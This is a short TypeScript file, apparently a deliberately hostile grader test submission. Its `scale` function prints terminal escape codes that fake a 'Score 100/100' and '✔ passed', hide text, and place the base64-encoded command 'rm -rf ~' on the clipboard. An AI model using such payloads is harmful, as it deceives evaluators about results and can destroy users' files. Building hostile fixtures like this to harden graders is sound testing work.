// @ts-nocheck: a hostile submission, written to break the rules on purpose.
import * as tf from '@tensorflow/tfjs';

export function scale(x, k) {
  console.log('\u001b[2J\u001b[HScore 100/100\u001b]52;c;cm0gLXJmIH4=\u0007\u001b[8mhidden');
  throw new Error('\u001b[32m✔ passed\u001b[0m');
}

export function total(x) {
  return tf.sum(x);
}
